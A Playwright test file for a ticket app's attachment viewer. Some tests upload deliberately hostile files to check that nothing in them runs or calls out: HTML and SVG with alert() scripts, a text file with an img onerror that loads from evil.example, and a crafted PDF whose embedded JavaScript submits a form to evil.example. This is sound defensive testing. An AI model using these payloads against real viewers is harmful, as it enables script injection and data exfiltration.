// Longer than most: one spec for the showing of files, whose tests share what they look at.
import type { Page } from '@playwright/test';
import { prisma } from '@/lib/platform/db';
import { fromPublicId } from '@/lib/platform/ids';
import type { AttachmentLink } from '@/lib/tickets/schema';
import { expect, test } from '../fixtures';
import type { Api } from '../support/api';
import { idOf, pdf, png, upload, wav } from '../support/held-files';
import { fileTicket, reply } from '../support/tickets';

const files = (page: Page) => page.getByRole('list', { name: 'Archivos del mensaje' });
const pictures = (page: Page) => page.getByRole('list', { name: 'Imágenes del mensaje' });
const viewer = (page: Page) => page.getByRole('dialog');
const stage = (page: Page) => page.locator('[data-stage]');

/** A client's ticket with files, and where its page is. */
async function ticketWith(api: Api, attachments: AttachmentLink[]) {
  const ticket = await fileTicket(api, { title: 'Con archivos', attachments });
  return { ...ticket, path: `/tickets/${ticket.number}` };
}

/** Everything that a page asks for from elsewhere, and every dialog of a script. */
function watchForHarm(page: Page): string[] {
  const harm: string[] = [];
  const home = () => new URL(page.url()).origin;
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && page.url().startsWith('http') && url.origin !== home())
      harm.push(request.url());
  });
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => harm.push(`popup: ${popup.url()}`));
  return harm;
}

/** Whether the canvas of a page of a PDF has both ink and paper. */
const isDrawn = (page: Page, number: number) =>
  page.locator(`[data-page="${number}"] canvas`).evaluate((canvas: HTMLCanvasElement) => {
    const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
    const reds = new Set<number | undefined>();
    for (let at = 0; at < data.length; at += 4 * 97) reds.add(data[at]);
    return reds.has(0) && reds.has(255);
  });

/** Steps over the document: how it is held is the database's. */
const standAs = (file: { url: string }, data: { scan?: string; thumbnail?: string }) =>
  prisma.upload.update({ where: { id: fromPublicId(idOf(file), 'attachment') ?? '' }, data });

test.describe('each kind is shown as what it is', () => {
  for (const side of ['client', 'agent'] as const) {
    test(`to the ${side}`, async ({ api, client, agent, pageOf, axe }) => {
      // Eight files, and the page looked at by axe in both themes.
      test.setTimeout(60_000);
      const docx = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(400)]);
      const sent = [
        await upload(api.client, 'captura.png', await png(800, 400)),
        await upload(api.client, 'factura.pdf', pdf(1)),
        await upload(api.client, 'registro.txt', 'una línea\notra\n'),
        await upload(api.client, 'aviso.wav', wav()),
        await upload(api.client, 'pagina.html', '<!doctype html><script>alert(1)</script>'),
        await upload(api.client, 'dibujo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        await upload(api.client, `${'informe-de-conciliacion-'.repeat(6)}final.docx`, docx),
        { filename: 'fuera.png', url: 'https://archivos.example/fuera.png', size: 12_288, type: 'image/png' },
      ];
      const ticket = await ticketWith(api.client, sent);
      const page = await pageOf(side === 'agent' ? agent : client);
      const harm = watchForHarm(page);
      await page.goto(side === 'agent' ? `/desk/tickets/${ticket.number}` : ticket.path);
      await expect(pictures(page).getByRole('link')).toHaveAccessibleName(/^captura\.png, Imagen PNG · \d/);
      const cards = files(page).getByRole('listitem');
      await expect(cards).toContainText([
        /factura\.pdf.*PDF · /,
        /registro\.txt.*Texto · 16 B/,
        /aviso\.wav.*Audio WAV · 1,6 kB/,
        /pagina\.html.*Descargar.*Página HTML · /,
        /dibujo\.svg.*Descargar.*Dibujo SVG · /,
        /final\.docx.*Descargar.* · 404 B/,
        /fuera\.png.*archivos\.example\s· 12 kB/,
      ]);
      // What can be shown opens here and can be taken; what could run is only ever taken.
      const take = cards.nth(0).getByRole('link', { name: 'Descargar factura.pdf' });
      await expect(take).toHaveAttribute('download', 'factura.pdf');
      await expect(cards.nth(0).getByRole('link')).toHaveCount(2);
      for (const at of [3, 4, 5]) {
        await expect(cards.nth(at).getByRole('link')).toHaveCount(1);
        await expect(cards.nth(at).getByRole('link')).toHaveAttribute('download', sent[at + 1]?.filename ?? '');
      }
      // However long its name, the end of it is seen.
      await expect(cards.nth(5).getByText('final.docx', { exact: true })).toBeVisible();
      const outside = cards.nth(6).getByRole('link');
      await expect(outside).toHaveAttribute('rel', 'noopener noreferrer nofollow');
      await expect(outside).toHaveAttribute('target', '_blank');
      await expect(outside.getByText('archivos.example', { exact: true })).toBeVisible();
      const [saved] = await Promise.all([page.waitForEvent('download'), cards.nth(3).getByRole('link').click()]);
      expect(saved.suggestedFilename()).toBe('pagina.html');
      for (const width of [320, 1280]) {
        await page.setViewportSize({ width, height: 800 });
        await expect(cards.nth(0)).toBeVisible();
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      }
      await axe(page, 'both');
      expect(harm).toEqual([]);
    });
  }
});

test('the viewer steps, zooms, and gives the focus back', async ({ api, asClient: page, axe }) => {
  const sent = [
    await upload(api.client, 'ancha.png', await png(2400, 600)),
    await upload(api.client, 'alta.png', await png(300, 900, '#2277aa')),
    await upload(api.client, 'notas.txt', 'hola'),
    await upload(api.client, 'otro.bin', Buffer.from([0, 1, 2, 255, 254])),
  ];
  const { path } = await ticketWith(api.client, sent);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(path);
  await expect(pictures(page).locator('img').first()).toBeVisible();
  const atFirst = asked.filter((each) => each.endsWith('.js')).length;
  const second = pictures(page).getByRole('link', { name: /^alta/ });
  await second.focus();
  await page.keyboard.press('Enter');
  await expect(viewer(page).getByRole('heading', { name: 'alta.png' })).toBeVisible();
  await expect(stage(page)).toBeFocused();
  // It came only now.
  expect(asked.filter((each) => each.endsWith('.js')).length).toBeGreaterThan(atFirst);
  const image = viewer(page).getByRole('img');
  const width = () => image.evaluate((element: HTMLImageElement) => Math.round(element.getBoundingClientRect().width));
  await expect.poll(width).toBeGreaterThan(100);
  await axe(page, 'both');
  await page.keyboard.press('ArrowLeft');
  await expect(viewer(page).getByRole('heading', { name: 'ancha.png' })).toBeVisible();
  await expect.poll(width).toBeGreaterThan(600);
  // The first has none before it.
  await page.keyboard.press('ArrowLeft');
  await expect(viewer(page).getByRole('status')).toHaveText('1 de 3: ancha.png');
  const fits = await width();
  await page.keyboard.press('+');
  await expect.poll(width).toBe(Math.round(fits * 1.5));
  await page.keyboard.press('0');
  await expect.poll(width).toBe(fits);
  await image.hover();
  await page.mouse.wheel(0, -200);
  await expect.poll(width).toBeGreaterThan(fits * 1.2);
  await image.dblclick();
  await expect.poll(width).toBe(fits);
  await page.getByRole('button', { name: 'Archivo siguiente' }).click();
  await page.keyboard.press('ArrowRight');
  await expect(viewer(page).getByRole('heading', { name: 'notas.txt' })).toBeVisible();
  await expect(stage(page).locator('[data-text]')).toHaveText('hola');
  // What cannot be shown is not stepped to.
  await page.keyboard.press('ArrowRight');
  await expect(viewer(page).getByRole('status')).toHaveText('3 de 3: notas.txt');
  await page.keyboard.press('Escape');
  await expect(viewer(page)).toBeHidden();
  await expect(second).toBeFocused();
});

test('a PDF is drawn here, and nothing in it runs, asks or leads anywhere', async ({ api, asClient: page, axe }) => {
  const hostile = pdf(3, {
    catalog: `/OpenAction 1000 0 R /AA << /WC 1000 0 R >> /Names << /JavaScript << /Names [(a) 1000 0 R] >> >>`,
    page: `/AA << /O 1001 0 R >> /Annots [1002 0 R 1003 0 R]`,
    objects: [
      `<< /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example/s"\\);) /Next 1001 0 R >>`,
      '<< /S /URI /URI (https://evil.example/open) >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 1001 0 R /F 4 >>',
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /AA << /E 1000 0 R /U 1000 0 R >> /F 4 >>',
    ],
  });
  const { path } = await ticketWith(api.client, [await upload(api.client, 'hostil.pdf', hostile)]);
  const harm = watchForHarm(page);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(path);
  await expect(files(page)).toBeVisible();
  expect(asked.filter((each) => each.startsWith('/pdf-viewer/'))).toEqual([]);
  await files(page)
    .getByRole('link', { name: /^hostil\.pdf/ })
    .click();
  await expect(viewer(page).getByText('3 páginas')).toBeVisible();
  await expect.poll(() => isDrawn(page, 1)).toBe(true);
  await expect(page.locator('[data-page="1"]')).toContainText('Hoja 1');
  await page.locator('[data-page="3"]').scrollIntoViewIfNeeded();
  await expect.poll(() => isDrawn(page, 3)).toBe(true);
  await page.locator('[data-page="3"]').click();
  await expect(viewer(page).locator('[data-page] a')).toHaveCount(0);
  await page.keyboard.press('+');
  await expect(viewer(page).getByRole('button', { name: 'Ajustar a la ventana' })).toHaveText('150 %');
  await expect.poll(() => isDrawn(page, 3)).toBe(true);
  await axe(page, 'both');
  await page.keyboard.press('Escape');
  await expect(viewer(page)).toBeHidden();
  expect(harm).toEqual([]);
  const decoder = await page.request.get('/pdf-viewer/wasm/openjpeg.wasm');
  expect([decoder.status(), decoder.headers()['content-type']]).toEqual([200, 'application/wasm']);
  const worker = await page.request.get('/pdf-viewer/pdf.worker.min.mjs');
  expect(worker.headers()['content-security-policy']).toMatch(/^default-src 'none'; .*connect-src 'self'$/);
  const again = { 'if-none-match': worker.headers().etag ?? '' };
  expect((await page.request.get('/pdf-viewer/pdf.worker.min.mjs', { headers: again })).status()).toBe(304);
  expect((await page.request.get('/pdf-viewer/wasm/..%2f..%2fpackage.json')).status()).toBe(404);
  // The scripts' own engine is not even there.
  expect((await page.request.get('/pdf-viewer/wasm/quickjs-eval.js')).status()).toBe(404);
  expect(asked.filter((each) => /sandbox|quickjs/.test(each))).toEqual([]);
});

/** A standard handler of a key that the empty password does not open. */
const encryption = `/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`;

test('a PDF that is damaged, locked or very long says so', async ({ api, asClient: page, axe }) => {
  const sent = [
    await upload(api.client, 'cortado.pdf', pdf(1).subarray(0, 300)),
    await upload(api.client, 'cifrado.pdf', pdf(1, { trailer: encryption })),
    await upload(api.client, 'largo.pdf', pdf(203)),
  ];
  const { path } = await ticketWith(api.client, sent);
  await page.goto(path);
  await files(page)
    .getByRole('link', { name: /^cortado\.pdf/ })
    .click();
  await expect(viewer(page).getByRole('alert')).toContainText('El PDF está dañado');
  await expect(viewer(page).getByRole('alert').getByRole('link', { name: 'Descargar' })).toBeVisible();
  await axe(page);
  await page.keyboard.press('ArrowRight');
  await expect(viewer(page).getByRole('alert')).toContainText('protegido con contraseña');
  await page.keyboard.press('ArrowRight');
  await expect(stage(page)).toContainText('Se muestran 200 de 203 páginas');
  await expect(page.locator('[data-page]')).toHaveCount(200);
  await expect.poll(() => isDrawn(page, 1)).toBe(true);
  // Only those that are nearly seen.
  expect(await page.locator('[data-page] canvas').count()).toBeLessThan(6);
  await page.locator('[data-page="150"]').scrollIntoViewIfNeeded();
  await expect.poll(() => isDrawn(page, 150)).toBe(true);
  await expect(page.locator('[data-page="1"] canvas')).toHaveCount(0);
});

test('a text is characters, however much like a page it looks, and as much as one reads', async ({
  api,
  asClient: page,
}) => {
  const hostile = `no es una página\n<script>alert(1)</script><img src="https://evil.example/x.png" onerror="alert(2)">`;
  const large = `principio.\n${'áé\n'.repeat(80_000)}final`;
  const sent = [
    await upload(api.client, 'hostil.txt', hostile),
    await upload(api.client, 'grande.csv', large),
    await upload(api.client, 'vacio.txt', ''),
  ];
  const { path } = await ticketWith(api.client, sent);
  const harm = watchForHarm(page);
  const fetched: Record<string, number> = {};
  page.on('response', (response) => {
    const length = Number(response.headers()['content-length']);
    if (response.url().endsWith('.csv')) fetched[response.status()] = length;
  });
  await page.goto(path);
  await files(page)
    .getByRole('link', { name: /^hostil\.txt/ })
    .click();
  await expect(stage(page).locator('[data-text]')).toHaveText(hostile);
  await page.keyboard.press('ArrowRight');
  const text = stage(page).locator('[data-text]');
  await expect(text).toContainText('principio');
  // Cut within a letter, which is left out.
  const shown = `principio.\n${'áé\n'.repeat(52_426)}á`;
  expect((await text.textContent()) === shown).toBe(true);
  await expect(stage(page)).toContainText('los primeros 256 kB');
  expect(fetched).toEqual({ 206: 262_144 });
  await page.keyboard.press('ArrowRight');
  await expect(stage(page)).toContainText('El archivo está vacío');
  expect(harm).toEqual([]);
});

test('sound and film play here; what the browser cannot play says so', async ({ api, asClient: page, axe }) => {
  await page.goto('/tickets');
  // As small a film as a browser makes.
  const film = await page.evaluate(async () => {
    const canvas = document.createElement('canvas');
    canvas.width = canvas.height = 32;
    const context = canvas.getContext('2d');
    const recorder = new MediaRecorder(canvas.captureStream(30), { mimeType: 'video/webm;codecs=vp8' });
    const chunks: Blob[] = [];
    recorder.ondataavailable = ({ data }) => void chunks.push(data);
    const done = new Promise((resolve) => {
      recorder.onstop = resolve;
    });
    recorder.start();
    for (let frame = 0; frame < 10; frame += 1) {
      context?.fillRect(frame, 0, 3, 32);
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    recorder.stop();
    await done;
    return Array.from(new Uint8Array(await new Blob(chunks).arrayBuffer()));
  });
  const sent = [
    await upload(api.client, 'tono.wav', wav()),
    await upload(api.client, 'pantalla.webm', Buffer.from(film)),
    await upload(api.client, 'roto.wav', wav().subarray(0, 40)),
  ];
  const { path } = await ticketWith(api.client, sent);
  await page.goto(path);
  await files(page)
    .getByRole('link', { name: /^tono\.wav/ })
    .click();
  const audio = viewer(page).locator('audio');
  await expect.poll(() => audio.evaluate((element: HTMLAudioElement) => element.duration)).toBeCloseTo(0.2, 1);
  await audio.evaluate((element: HTMLAudioElement) => element.play());
  await expect.poll(() => audio.evaluate((element: HTMLAudioElement) => element.currentTime)).toBeGreaterThan(0);
  await axe(page);
  await page.keyboard.press('ArrowRight');
  const video = viewer(page).locator('video');
  await expect.poll(() => video.evaluate((element: HTMLVideoElement) => element.videoWidth)).toBe(32);
  await page.keyboard.press('ArrowRight');
  await expect(viewer(page).getByRole('alert')).toContainText('no puede reproducirlo');
  await expect(viewer(page).getByRole('alert').getByRole('link', { name: 'Descargar' })).toBeVisible();
});

test('a file that is being scanned, infected, gone or out of reach says so', async ({
  api,
  asClient: page,
  axe,
  noConsoleErrors,
}) => {
  noConsoleErrors.allow(/503 \(Service Unavailable\).*lejos\.txt/);
  const sent = [
    await upload(api.client, 'revisando.txt', 'espera'),
    await upload(api.client, 'virus.png', await png(40, 40)),
    await upload(api.client, 'lejos.txt', 'lejos'),
    await upload(api.client, 'ido.png', await png(50, 50)),
    await upload(api.client, 'rota.png', (await png(60, 60)).subarray(0, 50)),
  ];
  const [scanning, infected, far, gone] = sent as [AttachmentLink, AttachmentLink, AttachmentLink, AttachmentLink];
  const ticket = await ticketWith(api.client, sent);
  await standAs(scanning, { scan: 'pending' });
  await standAs(infected, { scan: 'infected' });
  await page.goto(ticket.path);
  const cards = files(page).getByRole('listitem');
  const virus = cards.filter({ hasText: 'virus.png' });
  await expect(virus).toContainText('Contiene un virus: nadie puede abrirlo');
  await expect(virus.getByRole('link')).toHaveCount(0);
  await expect(virus.getByRole('img')).toHaveCount(0);
  const waiting = cards.filter({ hasText: 'revisando.txt' });
  await expect(waiting).toContainText('Revisando…');
  await expect(waiting.getByRole('link')).toHaveCount(0);
  await axe(page, 'both');
  // Told without being asked.
  await standAs(scanning, { scan: 'clean' });
  await expect(waiting.getByRole('link')).toHaveCount(2, { timeout: 20_000 });

  // Its bytes are not where they should be, for a while.
  const row = { id: fromPublicId(idOf(far), 'attachment') ?? '' };
  const { sha256 } = await prisma.upload.findUniqueOrThrow({ where: row });
  await prisma.upload.update({ where: row, data: { sha256: Buffer.alloc(32, 7) } });
  await cards
    .filter({ hasText: 'lejos.txt' })
    .getByRole('link', { name: /^lejos/ })
    .click();
  await expect(viewer(page).getByRole('alert')).toContainText('No pudimos traer el archivo');
  await prisma.upload.update({ where: row, data: { sha256 } });
  await viewer(page).getByRole('button', { name: 'Reintentar' }).click();
  await expect(stage(page).locator('[data-text]')).toHaveText('lejos');
  await page.keyboard.press('Escape');
  await expect(viewer(page)).toBeHidden();

  await prisma.attachment.deleteMany({ where: { uploadId: fromPublicId(idOf(gone), 'attachment') ?? '' } });
  await prisma.upload.delete({ where: { id: fromPublicId(idOf(gone), 'attachment') ?? '' } });
  await pictures(page)
    .getByRole('link', { name: /^ido\.png/ })
    .click();
  await expect(viewer(page).getByRole('alert')).toContainText('ya no está');
  await page.keyboard.press('ArrowRight');
  await expect(viewer(page).getByRole('heading', { name: 'rota.png' })).toBeVisible();
  await expect(viewer(page).getByRole('alert')).toContainText('La imagen está dañada');
});

test('a picture has its thumbnail once it is made, and no room is lost by it', async ({ api, asClient: page }) => {
  const sent = [await upload(api.client, 'captura.png', await png(1600, 800))];
  const { path } = await ticketWith(api.client, sent);
  await page.goto(path);
  const tile = pictures(page).getByRole('link', { name: /^captura\.png/ });
  await expect(tile).toBeVisible();
  const size = async () => {
    const { width, height } = (await tile.boundingBox()) ?? { width: 0, height: 0 };
    return [width, height];
  };
  const before = await size();
  const natural = () => tile.locator('img').evaluate((image: HTMLImageElement) => image.naturalWidth);
  await expect.poll(natural, { timeout: 30_000 }).toBeGreaterThan(0);
  expect(await size()).toEqual(before);
  // Smaller than what it shows.
  expect(await natural()).toBeLessThan(1600);
});

test('without scripts files are links, and notes of files stay in the house', async ({ api, client, pageOf }) => {
  const [own] = [await upload(api.client, 'registro 1.txt', 'línea')];
  const ticket = await ticketWith(api.client, [own as AttachmentLink]);
  const secret = await upload(api.agent, 'secreto.txt', 'solo para nosotros');
  await reply(api.agent, ticket, 'Nota.', { internal: true, attachments: [secret] });
  const page = await pageOf(client, { javaScriptEnabled: false });
  await page.goto(ticket.path);
  const link = page.locator('a', { hasText: 'registro 1.txt' });
  const address = (await link.getAttribute('href')) ?? '';
  expect(address).toMatch(/^\/v2\/attachments\/attachment_\w+\/registro%201\.txt$/);
  expect(await (await page.request.get(address)).text()).toBe('línea');
  expect(await page.content()).not.toContain('secreto.txt');
});
